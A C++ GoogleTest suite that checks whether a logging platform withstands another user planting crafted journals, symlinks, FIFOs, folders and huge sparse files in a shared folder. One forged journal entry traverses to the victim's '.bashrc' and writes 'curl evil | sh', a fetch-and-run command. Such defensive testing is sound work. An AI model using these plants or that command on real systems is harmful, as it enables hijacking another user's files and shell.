// Another student plants files in the shared folder the victim records into:
// crafted journals, links, a FIFO, a folder, a huge sparse file, a file of
// their own, at every name the victim's program uses.  Real users: the suite
// runs as root and each side is a child that gives up root for its own uid.
// After each plant the victim's other files are unchanged, the logs hold
// exactly the victim's records, the other student's files hold none of them,
// and each command of the victim ends, with success or a numbered report:
// one that waits on a plant (a FIFO's open, a lock never let go) would wait
// for ever, so a minute tells it from a busy machine.

#include <fcntl.h>
#include <grp.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <functional>
#include <string>
#include <thread>

#include "platform/RuntimeError.h"
#include "platform/journal/JournalFormat.h"
#include "tests/platform/TestPlatforms.h"
#include "tests/support/ChildProcess.h"
#include "tests/support/ErrorOf.h"
#include "tests/support/FileBytes.h"
#include "tests/support/RowName.h"
#include "tests/support/TempDir.h"

namespace qadrill::testing {
namespace {

constexpr uid_t victimId = 61001;
constexpr uid_t attackerId = 61002;
constexpr int hung = -1000;
constexpr auto commandLimit = std::chrono::seconds(60);

const std::array<std::string, 3> logNames = {"masterFile_Ann.txt", "send_1207Ann.txt", "notes_Ann.txt"};
const std::array<std::u16string, 3> logPaths = {u"c:\\share\\masterFile_Ann.txt", u"c:\\share\\send_1207Ann.txt",
                                                u"c:\\share\\notes_Ann.txt"};
const std::string thesis = "my thesis, chapter one\n";
const std::string bashrc = "alias ll='ls -l'\n";
const std::string attackersOwn = "the other student's notes\n";

std::string recordOf(int command, std::size_t log) {
    return "RECORD " + std::to_string(command) + " of log " + std::to_string(log) + "\r\n";
}

// In a child: give up root for `user`, with no extra groups.
bool become(uid_t user) {
    return setgroups(0, nullptr) == 0 && setresgid(user, user, user) == 0 && setresuid(user, user, user) == 0;
}

// Runs `body` as `user` in a child; its exit code, or `hung` when it did not
// end within the limit (it is killed then).
int runAs(uid_t user, const std::function<int()>& body) {
    const pid_t pid = startChild([&] { return become(user) ? body() : childSetupFailed; });
    if (pid < 0) return childSetupFailed;
    const auto giveUp = std::chrono::steady_clock::now() + commandLimit;
    int status = 0;
    while (waitpid(pid, &status, WNOHANG) == 0) {
        if (std::chrono::steady_clock::now() > giveUp) {
            kill(pid, SIGKILL);
            waitpid(pid, &status, 0);
            return hung;
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(2));
    }
    return WIFEXITED(status) ? WEXITSTATUS(status) : childSetupFailed;
}

// The shared folder, the victim's home with two files of theirs and their
// private state folder, and a file of the other student's.
struct Scene {
    TempDir dir;
    std::filesystem::path share = dir.path() / "c" / "share";
    std::filesystem::path home = dir.path() / "victim";
    std::filesystem::path attackerHome = dir.path() / "attacker";

    explicit Scene(mode_t shareMode) {
        std::filesystem::create_directories(share);
        std::filesystem::create_directories(home);
        std::filesystem::create_directories(attackerHome);
        chmod(dir.path().c_str(), 0755);
        chmod((dir.path() / "c").c_str(), 0755);
        chmod(share.c_str(), shareMode);
        std::ofstream(home / "thesis.txt") << thesis;
        std::ofstream(home / ".bashrc") << bashrc;
        std::ofstream(attackerHome / "own.txt") << attackersOwn;
        for (const auto& file : {home, home / "thesis.txt", home / ".bashrc"})
            [[maybe_unused]] const int ignored = chown(file.c_str(), victimId, victimId);
        chmod(home.c_str(), 0700);
        for (const auto& file : {attackerHome, attackerHome / "own.txt"})
            [[maybe_unused]] const int ignored = chown(file.c_str(), attackerId, attackerId);
        chmod(attackerHome.c_str(), 0755);
        chmod((attackerHome / "own.txt").c_str(), 0666);
    }

    [[nodiscard]] std::filesystem::path stateFolder() const { return home / ".local" / "state" / "qadrill"; }

    // One recording command of the victim: the three logs opened, the
    // records appended together, the logs closed.  Its error number, or 0.
    int victimRecords(int command) const {
        return runAs(victimId, [&] {
            BarePlatform platform(dir.path(), std::chrono::milliseconds(500));
            platform.useStateFolder(stateFolder());
            std::array<std::string, 3> records;
            std::array<RecordAppend, 3> appends;
            return errorOf([&] {
                for (std::size_t i = 0; i < 3; ++i) {
                    records[i] = recordOf(command, i);
                    platform.open(static_cast<int>(i + 1), logPaths[i], FileMode::Append);
                    appends[i] = {static_cast<int>(i + 1), records[i]};
                }
                platform.appendRecords(appends);
                platform.closeAll();
            });
        });
    }
};

// A journal in the current format, checksum and all, naming the victim's
// logs and a file of theirs outside the shared folder.
std::string craftedJournal(const Scene& scene, char state) {
    JournalContents contents;
    contents.state = state;
    contents.generation = 7;
    contents.folder = scene.share;
    contents.entries.push_back({1, logNames[0], 0, "FORGED master\r\n"});
    contents.entries.push_back({2, logNames[1], 0, "FORGED send\r\n"});
    contents.entries.push_back({3, "../../victim/.bashrc", 0, "curl evil | sh\n"});
    return encodeJournal(contents);
}

using Plant = std::function<void(const Scene&, const std::filesystem::path& at)>;

void writeFile(const std::filesystem::path& at, const std::string& bytes) {
    std::ofstream(at, std::ios::binary) << bytes;
    chmod(at.c_str(), 0666);
}

const struct {
    const char* name;
    Plant plant;
} plants[] = {
    {"roll_forward_journal", [](const Scene& s, const auto& at) { writeFile(at, craftedJournal(s, rollForward)); }},
    {"roll_back_journal", [](const Scene& s, const auto& at) { writeFile(at, craftedJournal(s, rollBack)); }},
    {"link_to_victims_file",
     [](const Scene& s, const auto& at) { symlink((s.home / "thesis.txt").c_str(), at.c_str()); }},
    {"link_to_own_file",
     [](const Scene& s, const auto& at) { symlink((s.attackerHome / "own.txt").c_str(), at.c_str()); }},
    {"dangling_link", [](const Scene& s, const auto& at) { symlink((s.share / "nowhere").c_str(), at.c_str()); }},
    {"link_to_dev_null", [](const Scene&, const auto& at) { symlink("/dev/null", at.c_str()); }},
    {"fifo", [](const Scene&, const auto& at) { mkfifo(at.c_str(), 0666); }},
    {"folder", [](const Scene&, const auto& at) { mkdir(at.c_str(), 0777); }},
    {"sparse_64_gib",
     [](const Scene&, const auto& at) {
         writeFile(at, "");
         truncate(at.c_str(), std::int64_t{64} << 30);
     }},
    {"own_file", [](const Scene&, const auto& at) { writeFile(at, attackersOwn); }},
};

// Where a plant goes: the journal's old hidden name beside the master log,
// the victim's state folder (the other student cannot reach it), each log.
const struct {
    const char* name;
    std::function<std::filesystem::path(const Scene&)> at;
    bool blocksTheLogs;
} places[] = {
    {"old_journal_name", [](const Scene& s) { return s.share / ".masterFile_Ann.txt.journal"; }, false},
    {"state_folder", [](const Scene& s) { return s.stateFolder() / "planted.journal"; }, false},
    {"master_log", [](const Scene& s) { return s.share / logNames[0]; }, true},
    {"send_log", [](const Scene& s) { return s.share / logNames[1]; }, true},
    {"notes_log", [](const Scene& s) { return s.share / logNames[2]; }, true},
};

struct AttackRow {
    std::size_t plant;
    std::size_t place;
    mode_t shareMode;
    std::string name;
};

using qadrill::testing::PrintTo;

class SharedFolderAttack : public ::testing::TestWithParam<AttackRow> {};

TEST_P(SharedFolderAttack, VictimsLogsHoldExactlyTheirRecords) {
    if (geteuid() != 0) GTEST_SKIP() << "needs root, to run the two students as real users";
    const AttackRow row = GetParam();
    const Scene scene(row.shareMode);
    const bool atALog = places[row.place].blocksTheLogs;
    const auto at = places[row.place].at(scene);
    const auto plant = [&] {
        ASSERT_NE(runAs(attackerId,
                        [&] {
                            plants[row.plant].plant(scene, at);
                            return 0;
                        }),
                  hung);
    };
    // A log's name is taken before the victim's first record; anything else
    // is planted once the victim has recorded (and has a state folder).
    if (atALog) plant();
    std::array<int, 3> results{};
    results[0] = scene.victimRecords(1);
    if (!atALog) plant();
    results[1] = scene.victimRecords(2);
    results[2] = scene.victimRecords(3);
    std::array<std::string, 3> expected;
    for (int command = 1; command <= 3; ++command) {
        const int result = results[static_cast<std::size_t>(command - 1)];
        EXPECT_NE(result, hung) << "command " << command << " hung";
        EXPECT_EQ(result, atALog ? err::accessDenied : 0) << "command " << command;
        for (std::size_t i = 0; i < 3 && result == 0; ++i) expected[i] += recordOf(command, i);
    }
    EXPECT_EQ(contents(scene.home / "thesis.txt"), thesis);
    EXPECT_EQ(contents(scene.home / ".bashrc"), bashrc);
    EXPECT_EQ(contents(scene.attackerHome / "own.txt"), attackersOwn);
    for (std::size_t i = 0; i < 3; ++i) {
        const auto log = scene.share / logNames[i];
        struct stat status {};
        if (lstat(log.c_str(), &status) != 0 || !S_ISREG(status.st_mode) || status.st_uid != victimId) continue;
        EXPECT_EQ(contents(log), expected[i]) << logNames[i];
    }
}

std::vector<AttackRow> attackRows() {
    std::vector<AttackRow> rows;
    for (const mode_t mode : {mode_t{01777}, mode_t{0777}})
        for (std::size_t place = 0; place < std::size(places); ++place)
            for (std::size_t plant = 0; plant < std::size(plants); ++plant)
                rows.push_back(
                    {plant, place, mode,
                     std::string(mode == 01777 ? "sticky_" : "open_") + places[place].name + "_" + plants[plant].name});
    return rows;
}

INSTANTIATE_TEST_SUITE_P(Plants, SharedFolderAttack, ::testing::ValuesIn(attackRows()), rowName);

}  // namespace
}  // namespace qadrill::testing
